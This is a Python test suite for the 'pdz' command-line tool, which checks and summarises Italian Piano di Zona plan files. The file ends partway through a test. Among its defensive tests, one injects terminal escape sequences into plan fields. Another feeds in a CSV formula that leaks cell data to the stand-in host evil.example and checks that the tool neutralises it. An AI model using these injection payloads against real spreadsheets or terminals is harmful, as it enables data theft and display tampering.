#!/usr/bin/python3
# test-cli.py: the pdz command, run as a subprocess
#
# SPDX-License-Identifier: LGPL-2.1-or-later
#
# Exit codes (0 clean, 1 warnings with --strict, 2 errors, an unreadable
# file or bad usage), output formats, colour (only on a terminal, never with
# NO_COLOR), Unicode (only in a UTF-8 locale, never with --ascii), on good
# and bad files. Figures are counted by hand from the example plan.
#
# Environment: PDZ_BIN (the pdz executable), PDZ_EXAMPLES_DIR,
# PDZ_TEST_DATA_DIR. Runs with /usr/bin/python3, no module beyond the
# standard library.

import csv
import io
import json
import os
import pathlib
import pty
import re
import subprocess
import sys
import tempfile
import unittest

PDZ = os.environ.get('PDZ_BIN', 'pdz')
SOURCE = pathlib.Path(__file__).resolve().parents[1]
EXAMPLES = pathlib.Path(os.environ.get('PDZ_EXAMPLES_DIR', SOURCE / 'examples' / 'data'))
DATA = pathlib.Path(os.environ.get('PDZ_TEST_DATA_DIR', SOURCE / 'tests' / 'data'))
EXAMPLE = str(EXAMPLES / 'corsichese-2021-2023.json')
CHECKS = DATA / 'checks'
MISSING = str(DATA / 'no-such-plan.json')

ESC = '\x1b['


def environment(**extra):
    env = {k: v for k, v in os.environ.items()
           if not k.startswith('LC_') and k not in ('LANG', 'LANGUAGE', 'NO_COLOR')}
    env['LC_ALL'] = 'C.UTF-8'
    env.update(extra)
    return env


def assert_load_error(test, err, path):
    """A plan that cannot be loaded: "pdz: " and the library's message,
    which names the file, once, on one line."""
    test.assertTrue(err.startswith('pdz: '), err)
    test.assertEqual(err.count(str(path)), 1, err)
    test.assertEqual(err.count('\n'), 1, err)


def pdz(*args, **env):
    """Runs pdz with its output on pipes: (exit status, stdout, stderr)."""
    result = subprocess.run([PDZ, *args], capture_output=True, env=environment(**env), timeout=60)
    return result.returncode, result.stdout.decode('utf-8'), result.stderr.decode('utf-8')


def pdz_on_terminal(*args, **env):
    """Runs pdz with its standard output on a pseudo-terminal."""
    master, slave = pty.openpty()
    process = subprocess.Popen([PDZ, *args], stdout=slave, stderr=subprocess.PIPE,
                               env=environment(**env))
    os.close(slave)
    chunks = []
    while True:
        try:
            data = os.read(master, 65536)
        except OSError:   # EIO once the child closed the terminal
            break
        if not data:
            break
        chunks.append(data)
    os.close(master)
    process.wait(timeout=60)
    process.stderr.close()
    return process.returncode, b''.join(chunks).decode('utf-8')


def is_ascii(text):
    return all(ord(c) < 128 for c in text)


class Dispatcher(unittest.TestCase):
    def test_version(self):
        status, out, _ = pdz('--version')
        self.assertEqual(status, 0)
        self.assertRegex(out, r'^pdz \d+\.\d+\.\d+\n$')

    def test_help(self):
        status, out, _ = pdz('--help')
        self.assertEqual(status, 0)
        for command in ('validate', 'summary', 'query', 'help'):
            self.assertIn('  ' + command, out)
        self.assertIn('Exit status', out)

    def test_help_command(self):
        for args in (('help', 'validate'), ('validate', '--help')):
            status, out, _ = pdz(*args)
            self.assertEqual(status, 0, args)
            self.assertIn('pdz validate', out)
            self.assertIn('--strict', out)
            self.assertIn('--format', out)
        for command in ('summary', 'query'):
            status, out, _ = pdz('help', command)
            self.assertEqual(status, 0)
            self.assertIn('pdz ' + command, out)
            self.assertIn('--format', out)

    def test_usage_errors(self):
        status, out, err = pdz()
        self.assertEqual(status, 2)
        status, out, err = pdz('frobnicate')
        self.assertEqual(status, 2)
        self.assertEqual(out, '')
        self.assertTrue(err.startswith('pdz: unknown command'), err)
        status, _, err = pdz('help', 'frobnicate')
        self.assertEqual(status, 2)
        status, _, err = pdz('validate', '--no-such-option', EXAMPLE)
        self.assertEqual(status, 2)
        self.assertTrue(err.startswith('pdz: validate:'), err)


class Validate(unittest.TestCase):
    LINE = re.compile(r'^(?P<file>[^:]+): (?P<pointer>/[^:]*): '
                      r'(?P<severity>error|warning|info)\[(?P<code>[a-z-]+)\]: (?P<message>.+)$')

    def test_clean(self):
        for args in ((), ('--strict',)):
            status, out, err = pdz('validate', *args, str(CHECKS / 'clean.json'))
            self.assertEqual(status, 0)
            self.assertEqual(out, '')
            self.assertEqual(err, '')

    def test_warnings_and_strict(self):
        path = str(CHECKS / 'objective-without-actions.json')
        status, out, _ = pdz('validate', path)
        self.assertEqual(status, 0)
        lines = out.splitlines()
        self.assertEqual(len(lines), 1)
        match = self.LINE.match(lines[0])
        self.assertIsNotNone(match, lines[0])
        self.assertEqual(match['file'], path)
        self.assertEqual(match['pointer'], '/objectives/1')
        self.assertEqual(match['severity'], 'warning')
        self.assertEqual(match['code'], 'objective-without-actions')
        self.assertEqual(match['message'],
                         'objective “Objective two” has no actions: nothing is reported for it')
        status, _, _ = pdz('validate', '--strict', path)
        self.assertEqual(status, 1)

    def test_infos_pass_strict(self):
        status, out, _ = pdz('validate', '--strict', str(CHECKS / 'partner-unreferenced.json'))
        self.assertEqual(status, 0)
        self.assertIn('info[partner-unreferenced]', out)

    def test_error(self):
        status, out, _ = pdz('validate', str(CHECKS / 'end-before-start.json'))
        self.assertEqual(status, 2)
        self.assertIn(': /objectives/0/actions/1: error[end-before-start]: ', out)

    def test_missing_file(self):
        status, out, err = pdz('validate', MISSING)
        self.assertEqual(status, 2)
        self.assertEqual(out, '')
        assert_load_error(self, err, MISSING)

    def test_malformed_files(self):
        bad = sorted((DATA / 'bad').glob('*.json'))
        self.assertTrue(bad, 'no bad input in %s' % (DATA / 'bad'))
        for path in bad:
            status, out, err = pdz('validate', str(path))
            self.assertEqual(status, 2, path)
            # The file, then where in it: LINE:COLUMN: or a JSON pointer.
            self.assertRegex(err, r'^pdz: %s(:\d+:\d+: |: /[^ ]*: )' % re.escape(str(path)))
            assert_load_error(self, err, path)

    def test_several_files(self):
        clean = str(CHECKS / 'clean.json')
        warned = str(CHECKS / 'indicator-without-measurement.json')
        status, out, err = pdz('validate', clean, MISSING, warned)
        self.assertEqual(status, 2)
        self.assertIn(warned + ': /objectives/0/indicators/0: warning[indicator-without-measurement]', out)
        self.assertIn(MISSING, err)
        status, out, _ = pdz('validate', '--strict', clean, warned)
        self.assertEqual(status, 1)

    def test_every_code(self):
        status, out, _ = pdz('validate', '--list-codes')
        self.assertEqual(status, 0)
        codes = [line.split()[0] for line in out.splitlines()]
        self.assertEqual(len(codes), 12)
        for code in codes:
            status, out, _ = pdz('validate', '--reference-date', '2023-10-31',
                                 str(CHECKS / (code + '.json')))
            self.assertIn('[%s]' % code, out)
            status, out, _ = pdz('validate', '--strict', '--reference-date', '2023-10-31',
                                 str(CHECKS / (code + '-ok.json')))
            self.assertEqual((status, out), (0, ''), code)

    def test_reference_date(self):
        path = str(CHECKS / 'action-completed-in-future.json')
        status, out, _ = pdz('validate', '--reference-date', '2023-10-31', path)
        self.assertIn('warning[action-completed-in-future]', out)
        # Today is after November 2023.
        status, out, _ = pdz('validate', path)
        self.assertNotIn('action-completed-in-future', out)
        status, _, err = pdz('validate', '--reference-date', '2023-13', path)
        self.assertEqual(status, 2)
        self.assertTrue(err.startswith('pdz: --reference-date: '), err)

    def test_disable_and_language(self):
        path = str(CHECKS / 'objective-without-actions.json')
        status, out, _ = pdz('validate', '--strict', '--disable', 'objective-without-actions', path)
        self.assertEqual((status, out), (0, ''))
        status, _, err = pdz('validate', '--disable', 'no-such-code', path)
        self.assertEqual(status, 2)
        status, out, _ = pdz('validate', '--language', 'it', path)
        self.assertIn("l'obiettivo «Objective two» non ha azioni", out)

    def test_json(self):
        status, out, _ = pdz('validate', '--format', 'json', EXAMPLE, MISSING)
        self.assertEqual(status, 2)
        report = json.loads(out)
        self.assertEqual(len(report['files']), 2)
        example, missing = report['files']
        self.assertTrue(example['loaded'])
        self.assertFalse(missing['loaded'])
        self.assertIn('error', missing)
        self.assertEqual(missing['diagnostics'], [])
        self.assertEqual((report['errors'], report['warnings'], report['infos'], report['unreadable']),
                         (0, 9, 24, 1))
        first = example['diagnostics'][0]
        self.assertEqual(set(first), {'pointer', 'severity', 'code', 'message'})
        self.assertEqual(first['pointer'], '/objectives/8/actions/5')
        self.assertEqual(first['code'], 'action-outside-plan-period')
        status, _, _ = pdz('validate', '--format', 'yaml', EXAMPLE)
        self.assertEqual(status, 2)

    def test_example(self):
        # Reviewed by hand: 9 warnings (an action of 2024, the eight ASST
        # objectives with nothing reported), 24 infos (15 projects without a
        # lead, 9 without a funding), no error.
        status, out, err = pdz('validate', EXAMPLE)
        self.assertEqual(status, 0)
        self.assertEqual(err, '')
        lines = out.splitlines()
        self.assertEqual(len(lines), 33)
        self.assertFalse([line for line in lines if 'error[' in line])
        self.assertEqual(len([line for line in lines if 'warning[' in line]), 9)
        status, _, _ = pdz('validate', '--strict', EXAMPLE)
        self.assertEqual(status, 1)


class Summary(unittest.TestCase):
    def test_text(self):
        status, out, err = pdz('summary', '--lang', 'en', EXAMPLE)
        self.assertEqual(status, 0)
        self.assertEqual(err, '')
        self.assertTrue(out.startswith('Piano di Zona 2021-2023\n'))
        self.assertIn('Ambito del Corsichese', out)
        self.assertIn('March 2022 – October 2023', out)
        self.assertIn('19 objectives · 67 actions · 16 projects', out)
        abitative = [line for line in out.splitlines() if line.startswith('Politiche abitative')]
        self.assertEqual(len(abitative), 1)
        # objectives, actions, planned, in progress, completed, suspended, cancelled
        self.assertEqual(abitative[0].split()[2:9], ['2', '10', '0', '3', '7', '0', '0'])
        self.assertIn('███████░░░  70%', abitative[0])
        self.assertIn('Top partners', out)
        self.assertRegex(out, r'\n  1 Assemblea dei Sindaci +2 +0  participant\n')
        self.assertIn('Funding per source', out)
        self.assertRegex(out, r'\nPNRR +4 +— +4\n')
        self.assertRegex(out, r'planned +65 ')
        self.assertRegex(out, r'extra +2 ')
        self.assertNotIn(ESC, out)

    def test_ascii_locale(self):
        status, out, _ = pdz('summary', '--lang', 'en', EXAMPLE, LC_ALL='C')
        self.assertEqual(status, 0)
        self.assertTrue(is_ascii(out), [c for c in out if ord(c) >= 128][:5])
        self.assertIn('#######...  70%', out)
        self.assertIn('Citta Metropolitana di Milano', out)
        self.assertIn('19 objectives - 67 actions', out)

    def test_ascii_option(self):
        status, out, _ = pdz('summary', '--ascii', EXAMPLE)
        self.assertEqual(status, 0)
        self.assertTrue(is_ascii(out))
        self.assertIn('#######...', out)

    def test_colour_only_on_terminal(self):
        status, out = pdz_on_terminal('summary', EXAMPLE)
        self.assertEqual(status, 0)
        self.assertIn(ESC, out)
        status, out = pdz_on_terminal('summary', EXAMPLE, NO_COLOR='1')
        self.assertEqual(status, 0)
        self.assertNotIn(ESC, out)
        self.assertIn('Politiche abitative', out)

    def test_validate_colour(self):
        path = str(CHECKS / 'objective-without-actions.json')
        _, out = pdz_on_terminal('validate', path)
        self.assertIn(ESC + '1;33mwarning[objective-without-actions]', out)
        _, out = pdz_on_terminal('validate', path, NO_COLOR='1')
        self.assertNotIn(ESC, out)

    def test_json(self):
        status, out, _ = pdz('summary', '--format', 'json', EXAMPLE)
        self.assertEqual(status, 0)
        summary = json.loads(out)
        self.assertEqual(summary['plan']['title'], 'Piano di Zona 2021-2023')
        self.assertEqual(summary['plan']['monitoring']['start'], '2022-03')
        self.assertEqual(summary['totals']['objectives'], 19)
        self.assertEqual(summary['totals']['actions'], 67)
        self.assertEqual(summary['totals']['projects'], 16)
        self.assertEqual(summary['totals']['extra-actions'], 2)
        by_macroarea = {row['macroarea']: row for row in summary['by-macroarea']}
        self.assertEqual(len(by_macroarea), 6)
        self.assertEqual(by_macroarea['azioni-di-sistema']['actions'], 38)
        self.assertEqual(by_macroarea['azioni-di-sistema']['actions-completed'], 26)
        self.assertEqual(summary['partners'][0]['partner'], 'ads')
        self.assertEqual(len(summary['partners']), 20)
        self.assertEqual(summary['funding-by-source'][0],
                         {'source': 'PNRR', 'fundings': 4, 'amount': 0, 'unknown-amounts': 4})
        origin = {row['origin']: row['actions'] for row in summary['by-origin']}
        self.assertEqual(origin, {'planned': 65, 'extra': 2})
        self.assertEqual([row['period'] for row in summary['by-year']],
                         ['2022', '2023', 'before', 'after', 'undated'])
        # JSON is UTF-8 whatever the locale.
        status, out_c, _ = pdz('summary', '--format', 'json', EXAMPLE, LC_ALL='C')
        self.assertEqual(json.loads(out_c), summary)

    def test_bad_input(self):
        status, out, err = pdz('summary', MISSING)
        self.assertEqual(status, 2)
        self.assertEqual(out, '')
        assert_load_error(self, err, MISSING)
        status, _, _ = pdz('summary', EXAMPLE, EXAMPLE)
        self.assertEqual(status, 2)
        status, _, _ = pdz('summary')
        self.assertEqual(status, 2)
        status, _, _ = pdz('summary', '--format', 'xml', EXAMPLE)
        self.assertEqual(status, 2)


class Query(unittest.TestCase):
    def ids(self, *args):
        status, out, err = pdz('query', EXAMPLE, '--format', 'json', *args)
        self.assertEqual(status, 0, err)
        return [action['id'] for action in json.loads(out)]

    def test_table(self):
        status, out, _ = pdz('query', EXAMPLE, '--macroarea', 'politiche-abitative')
        self.assertEqual(status, 0)
        lines = out.splitlines()
        self.assertTrue(lines[0].startswith('ID '))
        self.assertEqual(lines[-1], '10 actions')
        self.assertEqual(len(lines), 12)
        self.assertTrue(lines[1].startswith('agenzia-abitare-1 '))
        self.assertIn('…', out)

    def test_table_ascii_locale(self):
        status, out, _ = pdz('query', EXAMPLE, '--partner', 'prefettura-milano', LC_ALL='C')
        self.assertEqual(status, 0)
        self.assertTrue(is_ascii(out))
        self.assertTrue(out.endswith('2 actions\n'))

    def test_csv(self):
        status, out, _ = pdz('query', EXAMPLE, '--macroarea', 'politiche-abitative', '--format', 'csv')
        self.assertEqual(status, 0)
        rows = list(csv.DictReader(io.StringIO(out, newline='')))
        self.assertEqual(len(rows), 10)
        self.assertEqual(rows[1]['id'], 'agenzia-abitare-2')
        self.assertEqual(rows[1]['date'], '2023-11')
        self.assertEqual(rows[1]['pointer'], '/objectives/0/actions/1')
        protocol = [row for row in rows if row['id'] == 'emergenza-abitativa-2'][0]
        self.assertIn('Città Metropolitana di Milano, ANCI Lombardia', protocol['title'])
        self.assertEqual(len(protocol['partners'].split(';')), 7)

    def test_json(self):
        status, out, _ = pdz('query', EXAMPLE, '--partner', 'visconteo', '--format', 'json')
        self.assertEqual(status, 0)
        actions = json.loads(out)
        self.assertEqual([a['id'] for a in actions],
                         ['integrazione-sociosanitaria-3', 'integrazione-sociosanitaria-6'])
        self.assertEqual(actions[1]['objective'], 'integrazione-sociosanitaria')
        self.assertIn({'partner': 'visconteo', 'role': 'lead'}, actions[1]['partners'])

    def test_criteria(self):
        self.assertEqual(len(self.ids()), 67)
        self.assertEqual(len(self.ids('--macroarea', 'azioni-di-sistema')), 38)
        self.assertEqual(len(self.ids('--status', 'in-progress')), 18)
        self.assertEqual(len(self.ids('--status', 'in-progress,completed')), 67)
        self.assertEqual(len(self.ids('--macroarea', 'azioni-di-sistema', '--status', 'in-progress')), 12)
        self.assertEqual(self.ids('--from', '2023', '--to', '2023'),
                         ['agenzia-abitare-2', 'emergenza-abitativa-2', 'rete-coprogettazione-3',
                          'rete-coprogettazione-4', 'rete-coprogettazione-5'])
        self.assertEqual(self.ids('--from', '2023-11', '--to', '2023-11'),
                         ['agenzia-abitare-2', 'rete-coprogettazione-5'])
        self.assertEqual(self.ids('--from', '2023-12', '--to', '2023-12'), [])
        self.assertEqual(self.ids('--text', 'fattibilita'),
                         ['agenzia-abitare-1', 'gestione-associata-7'])
        self.assertEqual(self.ids('--text', 'liberta'), [])
        self.assertEqual(len(self.ids('--role', 'signatory')), 2)
        self.assertEqual(len(self.ids('--project', 'pippi-pnrr')), 3)
        self.assertEqual(len(self.ids('--funding-source', 'Bando GAP')), 1)
        self.assertEqual(self.ids('--extra'), ['emergenza-abitativa-7', 'piano-poverta-2'])
        self.assertEqual(len(self.ids('--planned')), 65)
        self.assertEqual(self.ids('--funding-source', 'PNRR'), ['rete-coprogettazione-8'])

    def test_bad_usage(self):
        for args in (('--status', 'finished'), ('--from', '2023-13'), ('--role', 'boss'),
                     ('--format', 'xml'), ('--extra', '--planned')):
            status, out, err = pdz('query', EXAMPLE, *args)
            self.assertEqual(status, 2, args)
            self.assertEqual(out, '')
            self.assertTrue(err.startswith('pdz: '), err)
        status, _, err = pdz('query', EXAMPLE, '--partner', 'nobody')
        self.assertEqual(status, 2)
        self.assertIn('nobody', err)
        status, _, err = pdz('query', MISSING)
        self.assertEqual(status, 2)
        assert_load_error(self, err, MISSING)


# Every C0 control but NUL (JSON \u0001 to \u001f), DEL and the C1 controls.
CONTROLS = (''.join(chr(c) for c in range(0x01, 0x20)) + '\x7f' +
            ''.join(chr(c) for c in range(0x80, 0xa0)))
# What a terminal would obey: set the window title, clear the screen.
ESCAPE = '\x1b]0;PWNED\x07\x1b[2J'


def is_terminal_safe(text):
    """No character a terminal would obey: C0 but TAB and newline, DEL, C1."""
    return not [c for c in text
                if (ord(c) < 0x20 and c not in '\t\n') or 0x7f <= ord(c) <= 0x9f]


class ControlCharacters(unittest.TestCase):
    """Plan text holding control characters: faithful in JSON and CSV,
    harmless on a terminal."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        plan = json.loads((CHECKS / 'clean.json').read_text(encoding='utf-8'))
        plan['title'] = 'Plan' + CONTROLS
        plan['ambito'] = ESCAPE + 'Ambito'
        plan['macroareas'][0]['title'] = 'Macroarea' + CONTROLS
        plan['partners'][1]['name'] = 'Partner' + CONTROLS
        plan['objectives'][0]['actions'][0]['title'] = 'Action' + CONTROLS
        plan['objectives'][0]['actions'][1]['title'] = ESCAPE + 'Action two'
        plan['projects'][0]['fundings'][0]['source'] = 'Source' + CONTROLS
        # Quoted by the message of objective-without-actions.
        plan['objectives'].append({'id': 'o2', 'title': 'O' + CONTROLS[:31],
                                   'macroarea': 'm1', 'status': 'planned'})
        cls.plan = str(pathlib.Path(cls.tmp.name) / 'controls.json')
        with open(cls.plan, 'w', encoding='utf-8') as f:
            json.dump(plan, f)
        # The same, with a status no plan may have (its error quotes it).
        plan['objectives'][0]['status'] = ESCAPE
        cls.bad_plan = str(pathlib.Path(cls.tmp.name) / 'bad-status.json')
        with open(cls.bad_plan, 'w', encoding='utf-8') as f:
            json.dump(plan, f)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def json_of(self, *args, statuses=(0, 1)):
        status, out, err = pdz(*args)
        self.assertIn(status, statuses, err)
        # Only the newlines and spaces of pretty-printing are raw.
        self.assertTrue(all(ord(c) >= 0x20 or c in '\n' for c in out), repr(out[:200]))
        self.assertTrue(is_terminal_safe(out))
        return json.loads(out)   # strict: a raw control fails

    def test_json_query(self):
        actions = self.json_of('query', self.plan, '--format', 'json')
        self.assertEqual(actions[0]['title'], 'Action' + CONTROLS)
        self.assertEqual(actions[1]['title'], ESCAPE + 'Action two')

    def test_json_summary(self):
        summary = self.json_of('summary', '--format', 'json', self.plan)
        self.assertEqual(summary['plan']['title'], 'Plan' + CONTROLS)
        self.assertEqual(summary['plan']['ambito'], ESCAPE + 'Ambito')
        self.assertEqual(summary['by-macroarea'][0]['title'], 'Macroarea' + CONTROLS)
        self.assertIn('Partner' + CONTROLS, [row['name'] for row in summary['partners']])
        self.assertEqual(summary['funding-by-source'][0]['source'], 'Source' + CONTROLS)

    def test_json_validate(self):
        report = self.json_of('validate', '--format', 'json', self.plan)
        messages = [d['message'] for d in report['files'][0]['diagnostics']]
        self.assertTrue([m for m in messages if 'O' + CONTROLS[:31] in m], messages)

    def test_text_outputs(self):
        for lc_all, replacement in (('C.UTF-8', '\ufffd'), ('C', '?')):
            for args in (('validate', self.plan), ('summary', self.plan),
                         ('query', self.plan), ('query', self.plan, '--ascii')):
                status, out, err = pdz(*args, LC_ALL=lc_all)
                self.assertLess(status, 2, (args, err))
                self.assertTrue(is_terminal_safe(out), (args, lc_all, repr(out)))
                self.assertIn('?' if '--ascii' in args else replacement, out, args)
                self.assertNotIn('\x1b', out)
            # The tab is kept, the rest replaced one for one.
            _, out, _ = pdz('query', self.plan, LC_ALL=lc_all)
            expected = CONTROLS.replace('\t', '\x00')
            expected = ''.join('\t' if c == '\x00' else replacement for c in expected)
            self.assertIn('Action' + expected[:10], out)
        # On a terminal, with colour, the same.
        for args in (('validate', self.plan), ('summary', self.plan), ('query', self.plan)):
            _, out = pdz_on_terminal(*args)
            self.assertNotIn('PWNED\x07', out)
            self.assertNotIn('\x1b]', out)
            self.assertNotIn('\x1b[2J', out)

    def test_error_messages(self):
        for lc_all in ('C.UTF-8', 'C'):
            # A plan value quoted by the library's message.
            status, out, err = pdz('summary', self.bad_plan, LC_ALL=lc_all)
            self.assertEqual(status, 2)
            self.assertIn('PWNED', err)
            self.assertTrue(is_terminal_safe(err), repr(err))
            self.assertEqual(err.count('\n'), 1, err)
            # Command-line values quoted by the tool's own messages.
            for args in (('query', self.plan, '--partner', ESCAPE),
                         ('query', self.plan, '--status', ESCAPE),
                         ('query', self.plan, '--' + ESCAPE),
                         ('validate', '--disable', ESCAPE, self.plan)):
                status, out, err = pdz(*args, LC_ALL=lc_all)
                self.assertEqual(status, 2, args)
                self.assertIn('PWNED', err)
                self.assertTrue(is_terminal_safe(err), (args, repr(err)))


    def test_file_name_not_utf8(self):
        # A file name is bytes: shown with U+FFFD, in JSON and on stderr.
        missing = str(pathlib.Path(self.tmp.name) / 'nope\udcff.json')
        report = self.json_of('validate', '--format', 'json', missing, self.plan, statuses=(2,))
        self.assertEqual(report['files'][0]['file'], missing.replace('\udcff', '\ufffd'))
        status, out, err = pdz('validate', missing)
        self.assertEqual(status, 2)
        self.assertIn('nope\ufffd.json', err)


class CsvFormulas(unittest.TestCase):
    def test_query_csv_neutralised(self):
        status, out, _ = pdz('query', str(DATA / 'injection.json'), '--format', 'csv')
        self.assertEqual(status, 0)
        rows = list(csv.reader(io.StringIO(out, newline='')))
        self.assertEqual(len(rows), 9)
        for row in rows:
            for cell in row:
                self.assertFalse(cell[:1] in ('=', '+', '-', '@', '\t', '\r'), (cell, row))
        titles = {row[0]: row[1] for row in rows[1:]}
        # The report's rule: an apostrophe in front, nothing lost.
        self.assertEqual(titles['act-1'], "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Clicca\")")
        self.assertEqual(titles['act-3'], "'-2+3 inizia con meno")
        self.assertEqual(titles['act-4'], "'\tinizia con una tabulazione")
        self.assertEqual(titles['act-6'], "'@SUM(1+1) inizia con una chiocciola")
        # Neutralised cells are quoted, like the report's.
        self.assertIn('"\'=HYPERLINK(', out)

    def test_query_csv_like_report(self):
        """The same cell, written by pdz query and by pdz report."""
        _, query, _ = pdz('query', str(DATA / 'injection.json'), '--format', 'csv')
        status, report, err = pdz('report', str(DATA / 'injection.json'), '-f', 'csv',
                                  '--table', 'actions')
        self.assertEqual(status, 0, err)
        for cell in ('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Clicca"")"',
                     '"\'-2+3 inizia con meno"', '"\'@SUM(1+1) inizia con una chiocciola"'):
            self.assertIn(cell, query)
            self.assertIn(cell, report)


class Options(unittest.TestCase):
    def test_help_mentions_report(self):
        status, out, _ = pdz('--help')
        self.assertEqual(status, 0)
        summary = out.splitlines()[4]
        self.assertIn('report', summary)
        self.assertIn('  report', out)

    def test_validate_refuses_unknown_language(self):
        path = str(CHECKS / 'objective-without-actions.json')
        for option in ('--lang', '--language', '-l'):
            status, out, err = pdz('validate', option, 'de', path)
            self.assertEqual(status, 2, option)
            self.assertEqual(out, '')
            self.assertTrue(err.startswith('pdz: validate: --lang: '), err)
            self.assertIn('“de”', err)
            self.assertIn('it, en', err)
        # The report refuses it the same way.
        status, _, err = pdz('report', EXAMPLE, '--lang', 'de')
        self.assertEqual(status, 2)
        self.assertIn('it, en', err)

    def test_language_spellings(self):
        path = str(CHECKS / 'objective-without-actions.json')
        italian = "l'obiettivo «Objective two» non ha azioni"
        for option in ('--lang', '--language', '-l'):
            for language in ('it', 'it_IT', 'IT'):
                status, out, err = pdz('validate', option, language, path)
                self.assertEqual(status, 0, (option, language, err))
                self.assertIn(italian, out)
            status, out, _ = pdz('validate', option, 'en', path)
            self.assertIn('objective “Objective two” has no actions', out)
        # --lang is the documented name, --language an alias.
        _, out, _ = pdz('validate', '--help')
        self.assertIn('--lang', out)
        self.assertNotIn('--language', out)
        for option in ('--lang', '--language', '-l'):
            status, out, err = pdz('report', EXAMPLE, '-f', 'md', option, 'en', '--date', '2023-11-30')
            self.assertEqual(status, 0, (option, err))
            status, _, err = pdz('report', EXAMPLE, '-f', 'md', option, 'de')
            self.assertEqual(status, 2, option)


class SummaryLanguage(unittest.TestCase):
    """pdz summary speaks the plan's language, or that of --lang, by the
    rule of validate and report; no text of one language in the other."""

    # The fixed texts of tools/pdz-summary-strings.c that differ between
    # the languages (the format strings without their numbers).
    ITALIAN = ['(piano senza titolo)', 'piano ', 'lingua ', 'Monitoraggio:', ' obiettivi',
               ' azioni ·', ' progetti', 'delle azioni concluse',
               'Stato delle azioni per macroarea', 'ob.', 'az.', 'prev', 'corso', 'concl',
               'sosp', 'ann', 'concluse', '(senza macroarea)', 'Totale',
               'Partner principali', 'azioni', 'progetti', 'ruoli', '(nessuno)', ' e altri ',
               'partecipante', 'capofila', 'firmatario', 'finanziatore', 'affidatario',
               'consultato', 'Finanziamenti per fonte', 'numero', 'importo',
               'importo non indicato', 'Azioni previste e azioni extra', 'previste',
               # the months of the dates
               'marzo', 'ottobre']
    ENGLISH = ['(untitled plan)', 'plan ', 'language ', 'Monitoring:', ' objectives',
               ' actions ·', ' projects', 'of actions completed', 'Status by macroarea',
               'obj', 'act', 'pln', 'prg', 'cmp', 'sus', 'can', 'completed',
               '(no macroarea)', 'Total', 'Top partners', 'actions', 'projects', 'roles',
               '(none)', ' and ', ' more', 'participant', 'lead', 'signatory', 'funder',
               'contractor', 'consulted', 'Funding per source', 'fundings', 'amount',
               'amount not stated', 'Planned against extra actions', 'planned',
               'March', 'October']
    # What the summary of the example plan has no place for (with --top 10).
    NOT_SHOWN = ('(piano senza titolo)', '(nessuno)', 'finanziatore', 'affidatario',
                 '(untitled plan)', '(none)', 'funder', 'contractor')

    @classmethod
    def setUpClass(cls):
        cls.tmp = tempfile.TemporaryDirectory()
        cls.plan = json.loads(pathlib.Path(EXAMPLE).read_text(encoding='utf-8'))
        cls.plans = {}
        for language in (None, 'en', 'de', 'it_IT'):
            plan = dict(cls.plan)
            plan.pop('language', None)
            if language is not None:
                plan['language'] = language
            path = pathlib.Path(cls.tmp.name) / f'{language}.json'
            path.write_text(json.dumps(plan), encoding='utf-8')
            cls.plans[language] = str(path)

    @classmethod
    def tearDownClass(cls):
        cls.tmp.cleanup()

    def shown_text(self):
        """The plan's own text the summary shows, as is."""
        plan = self.plan
        shown = [plan['title'], plan['ambito'], plan['monitoring']['title']]
        shown += [m['title'] for m in plan['macroareas']] + [p['name'] for p in plan['partners']]
        shown += [f['source'] for p in plan['projects'] for f in p.get('fundings', [])]
        return '\n'.join(shown)

    def assert_speaks(self, out, own, other):
        shown = self.shown_text()
        for text in other:
            # A word, not part of one: "ann" is no leak in "annual".
            pattern = r'(?<![A-Za-z])' + re.escape(text.strip()) + r'(?![A-Za-z])'
            # The plan may use the word itself ("capofila" in a name).
            if re.search(pattern, shown):
                continue
            self.assertNotRegex(out, pattern, text)
        for text in own:
            if text not in self.NOT_SHOWN:
                self.assertIn(text, out)

    def test_default_is_the_plans_language(self):
        status, out, err = pdz('summary', EXAMPLE)
        self.assertEqual((status, err), (0, ''))
        self.assertEqual(self.plan['language'], 'it')
        self.assertIn('Ambito del Corsichese · piano 2021 – 2023 · lingua it', out)
        self.assertIn('Monitoraggio: Monitoraggio attuazione e azioni extra, marzo 2022 – ottobre 2023', out)
        self.assertIn('19 obiettivi · 67 azioni · 16 progetti · 73% delle azioni concluse', out)
        self.assertRegex(out, r'\nStato delle azioni per macroarea +ob\. +az\. +prev +corso +concl +sosp +ann  concluse\n')
        # The columns stay under their heads, however wide.
        header = [line for line in out.splitlines() if line.startswith('Stato delle azioni')][0]
        abitative = [line for line in out.splitlines() if line.startswith('Politiche abitative')][0]
        self.assertEqual(header[34:71], '  ob.  az. prev corso concl sosp  ann')
        self.assertEqual(abitative[34:71], '    2   10    0     3     7    0    0')
        self.assertIn('\n(senza macroarea) ', out)
        self.assertRegex(out, r'\nTotale +19 +67 +0 +18 +49 +0 +0  ')
        self.assertRegex(out, r'\nPartner principali +azioni progetti  ruoli\n')
        self.assertRegex(out, r'\n  4 Il Visconteo +2 +0  partecipante, capofila, firmatario\n')
        self.assertIn('\n    … e altri 10\n', out)
        self.assertRegex(out, r'\nFinanziamenti per fonte +numero +importo  importo non indicato\n')
        self.assertIn('\nAzioni previste e azioni extra\n  previste    65  ', out)
        self.assertIn('\n  extra        2  ', out)
        self.assert_speaks(out, self.ITALIAN, self.ENGLISH)
        # Numbers, bars and colour do not change with the language.
        _, english, _ = pdz('summary', '--lang', 'en', EXAMPLE)
        self.assertEqual(re.findall(r'[█░]+ +\d+%', out), re.findall(r'[█░]+ +\d+%', english))

    def test_lang_en(self):
        for option in ('--lang', '-l', '--language'):
            status, out, err = pdz('summary', option, 'en', EXAMPLE)
            self.assertEqual((status, err), (0, ''), option)
            self.assertIn('Ambito del Corsichese · plan 2021 – 2023 · language it', out)
            self.assertIn('19 objectives · 67 actions · 16 projects · 73% of actions completed', out)
            self.assertRegex(out, r'\n  4 Il Visconteo +2 +0  participant, lead, signatory\n')
            self.assertIn('\n    … and 10 more\n', out)
            self.assertRegex(out, r'\nTop partners +actions projects  roles\n')
            self.assert_speaks(out, self.ENGLISH, self.ITALIAN)
        status, out, _ = pdz('summary', '--lang', 'it_IT', EXAMPLE)
        self.assertEqual(status, 0)
        self.assertIn('Partner principali', out)

    def test_language_rule(self):
        # No language: Italian, as Piani di Zona are; a language libpdz
        # lacks: English; --lang wins over the plan.
